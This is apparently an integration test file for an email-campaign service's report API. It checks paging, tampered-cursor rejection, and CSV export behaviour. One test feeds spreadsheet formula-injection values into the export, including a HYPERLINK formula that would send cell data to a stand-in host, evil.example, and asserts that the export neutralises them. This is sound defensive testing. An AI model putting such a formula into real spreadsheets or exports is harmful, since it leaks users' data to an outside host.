"""The report API against data and requests a review made hostile: a bounced list whose first
lead's email is not loaded yet, a CSV a spreadsheet would run, a reports server in another time
zone and date style, and history cursors that were tampered with."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import asyncpg
import pytest
import yarl
from aiohttp.test_utils import TestClient
from structlog.testing import capture_logs

from mailerd import campaigns, http
from mailerd import config as config_mod
from tests.integration import test_reports_api
from tests.integration.helpers import daemon_config, new_campaign
from tests.integration.test_reports_api import AUTH

# The report API's fixtures: a node's admin API on a reports database (and a pool to it).
client_with_reports = test_reports_api.client_with_reports
reports = test_reports_api.reports

_EMAILS = """INSERT INTO report_emails (campaign_id, lead_id, sent_at, account_id, address, domain,
                                        provider, provider_message_id, status, reason)
             VALUES ($1, $2, '2026-03-04T05:06:07.25Z', 1, $3, 'x.com', 'sink', $4, $5, $6)"""


async def test_the_bounced_list_pages_past_a_lead_whose_email_is_not_loaded_yet(
    client_with_reports: TestClient[Any, Any], reports: asyncpg.Pool, conn: asyncpg.Connection
) -> None:
    # the first page was short of `limit` and said next_after null: leads 3 to 5 were never listed
    campaign_id = await campaigns.create(conn, new_campaign(start=False), daemon_config(1))
    for lead in range(2, 6):
        await reports.execute(_EMAILS, campaign_id, lead, f"lead{lead}@x.com", f"m-{lead}", "sent", None)
    for lead in range(1, 6):
        await reports.execute(
            """INSERT INTO report_events (provider, provider_event_id, received_at, type, account_id,
                                          campaign_id, lead_id, address, provider_message_id, occurred_at)
               VALUES ('ses', $2::text, now(), 'hard_bounce', 1, $1, $3, 'a@x.com', 'm', now())""",
            campaign_id,
            f"e{lead}",
            lead,
        )
    seen: list[int] = []
    after: int | None = 0
    while after is not None:
        response = await client_with_reports.get(
            f"/api/campaigns/{campaign_id}/emails?event=hard_bounce&limit=2&after={after}", headers=AUTH
        )
        page = await response.json()
        seen += [email["lead_id"] for email in page["emails"]]
        after = page["next_after"]
    assert seen == [2, 3, 4, 5]


async def test_the_csv_export_runs_no_formula_and_says_utc_whatever_the_server_is_set_to(
    client_with_reports: TestClient[Any, Any], reports: asyncpg.Pool, conn: asyncpg.Connection
) -> None:
    campaign_id = await campaigns.create(conn, new_campaign(start=False), daemon_config(1))
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await reports.execute(_EMAILS, campaign_id, 1, "=1+2@x.com", "m-1", "sent", None)
    await reports.execute(_EMAILS, campaign_id, 2, "+cmd@x.com", "-2", "failed", hyperlink)
    await reports.execute(_EMAILS, campaign_id, 3, "ok@x.com", "m-3", "failed", 'two\nlines, "quoted"')
    database = await reports.fetchval("SELECT current_database()")
    await reports.execute(f"ALTER DATABASE \"{database}\" SET timezone = 'America/New_York'")
    await reports.execute(f"ALTER DATABASE \"{database}\" SET datestyle = 'SQL, DMY'")
    await reports.expire_connections()
    response = await client_with_reports.get(f"/api/campaigns/{campaign_id}/emails.csv", headers=AUTH)
    assert response.status == 200
    rows = list(csv.reader(io.StringIO(await response.text())))
    assert rows[1:] == [
        ["1", "'=1+2@x.com", "sent", "2026-03-04T05:06:07.250000+00:00", "m-1", ""],
        ["2", "'+cmd@x.com", "failed", "2026-03-04T05:06:07.250000+00:00", "'-2", "'" + hyperlink],
        ["3", "ok@x.com", "failed", "2026-03-04T05:06:07.250000+00:00", "m-3", 'two\nlines, "quoted"'],
    ]


def _cursor(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode("utf-8", "surrogatepass")).decode().rstrip("=")


@pytest.mark.parametrize(
    "raw",
    [
        "2026-01-01T00:00:00+00:00|email:1:\x00",
        "0001-01-01T00:00:00+14:00|email:1:1",
        "9999-12-31T23:59:59-14:00|email:1:1",
        "2026-01-01T00:00:00+00:00|\ud800",
        "2026-01-01T00:00:00+00:00|" + "x" * 2000,
    ],
)
async def test_a_tampered_history_cursor_is_a_422(
    client_with_reports: TestClient[Any, Any], raw: str
) -> None:
    # each was a 500 (a NUL, a time out of range once in UTC, a lone surrogate)
    response = await client_with_reports.get(
        f"/api/leads/1/history?account_id=1&before={_cursor(raw)}", headers=AUTH
    )
    assert response.status == 422
    assert (await response.json())["error"]["field"] == "before"


# The COPY statements running in this test's reports database (the server is shared).
_COPIES = """SELECT {} FROM pg_stat_activity
             WHERE datname = current_database() AND query LIKE 'COPY%' AND pid <> pg_backend_pid()"""


@pytest.fixture(params=["daemon", "cancelling"])
async def api_url(
    request: pytest.FixtureRequest, pool: asyncpg.Pool, reports: asyncpg.Pool
) -> AsyncIterator[str]:
    """A node's admin API served as the daemon serves it (a handler whose client went away runs
    on, its writes fail), or as aiohttp's test server does (that handler is cancelled)."""
    if request.param == "cancelling":
        async with test_reports_api._api(pool, reports) as test_client:
            yield str(test_client.make_url(""))
        return
    config = config_mod.from_mapping({}, env={"MAILERD_ADMIN_TOKEN": test_reports_api.TOKEN})
    app = http.build_app(http.Services(pool, config, http.Health(started=True), reports_pool=reports))
    runner = await http.start(app, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{http.bound_port(runner)}"
    finally:
        await runner.cleanup()


async def test_a_client_gone_mid_export_ends_the_copy_and_logs_no_database_warning(
    api_url: str, reports: asyncpg.Pool, conn: asyncpg.Connection
) -> None:
    # the pool's release failed on the COPY still running ("another operation is in progress"):
    # request_database_unavailable, a warning that alerts, for a client that went away
    campaign_id = await campaigns.create(conn, new_campaign(start=False), daemon_config(1))
    await reports.execute(
        """INSERT INTO report_emails (campaign_id, lead_id, sent_at, account_id, address, domain,
                                      provider, provider_message_id, status)
           SELECT $1, n, now(), 1, 'someone' || n || '@x.com', 'x.com', 'sink', 'm-' || n, 'sent'
           FROM generate_series(1, 100000) n""",
        campaign_id,
    )
    url = yarl.URL(f"{api_url}/api/campaigns/{campaign_id}/emails.csv")
    with capture_logs() as logs:
        reader, writer = await asyncio.open_connection(url.host, url.port)
        writer.write(
            f"GET {url.path} HTTP/1.1\r\nHost: x\r\nAuthorization: {AUTH['Authorization']}\r\n\r\n".encode()
        )
        first = await reader.readuntil(b"lead_id,address")  # the headers and the CSV's start
        assert first.startswith(b"HTTP/1.1 200")
        writer.transport.abort()  # gone, the export far from done (7 MB)
        ends = {"export_client_gone", "request_database_unavailable", "request_failed"}
        async with asyncio.timeout(30):
            while not any(entry["event"] in ends for entry in logs):
                await asyncio.sleep(0.02)
    assert [(e["event"], e["log_level"]) for e in logs] == [("export_client_gone", "info")], logs
    async with asyncio.timeout(30):  # the COPY does not run on in the reports database
        while await reports.fetchval(_COPIES.format("count(*)")):
            await asyncio.sleep(0.02)
    async with aiohttp.ClientSession(headers=AUTH) as session:
        for _ in range(3):  # the reports pool's connections (two) serve the next requests
            async with session.get(url) as response:
                assert response.status == 200
                assert (await response.read()).count(b"\n") == 100_001
        async with session.get(f"{api_url}/api/campaigns/{campaign_id}/report") as response:
            assert response.status == 200 and (await response.json())["totals"]["sent"] == 0


async def test_a_database_failure_mid_export_cuts_the_export_short(
    api_url: str, reports: asyncpg.Pool, conn: asyncpg.Connection
) -> None:
    # the error middleware's 503 was written into the CSV's body ("...\r\nHTTP/1.1 503 Service
    # Unavailable..."), past the chunked framing, and the connection kept open: aiohttp's client
    # waited on, for minutes
    campaign_id = await campaigns.create(conn, new_campaign(start=False), daemon_config(1))
    await reports.execute(
        """INSERT INTO report_emails (campaign_id, lead_id, sent_at, account_id, address, domain,
                                      provider, provider_message_id, status)
           SELECT $1, n, now(), 1, 'someone' || n || '@x.com', 'x.com', 'sink', 'm-' || n, 'sent'
           FROM generate_series(1, 100000) n""",
        campaign_id,
    )
    url = f"{api_url}/api/campaigns/{campaign_id}/emails.csv"
    async with aiohttp.ClientSession(headers=AUTH) as session:
        with capture_logs() as logs:
            async with session.get(url) as response:
                assert response.status == 200
                received = await response.content.readexactly(100)
                killed = await reports.fetchval(_COPIES.format("count(pg_terminate_backend(pid))"))
                assert killed == 1
                async with asyncio.timeout(30):
                    with pytest.raises(aiohttp.ClientPayloadError):
                        while chunk := await response.content.read(65536):
                            received += chunk
            async with asyncio.timeout(30):
                while not logs:
                    await asyncio.sleep(0.02)
        assert b"HTTP/1.1" not in received and received.count(b"\n") < 100_001
        assert [(e["event"], e["log_level"]) for e in logs] == [
            ("request_database_unavailable", "warning")
        ], logs
        async with session.get(url) as response:  # the next export is whole
            assert response.status == 200
            assert (await response.read()).count(b"\n") == 100_001
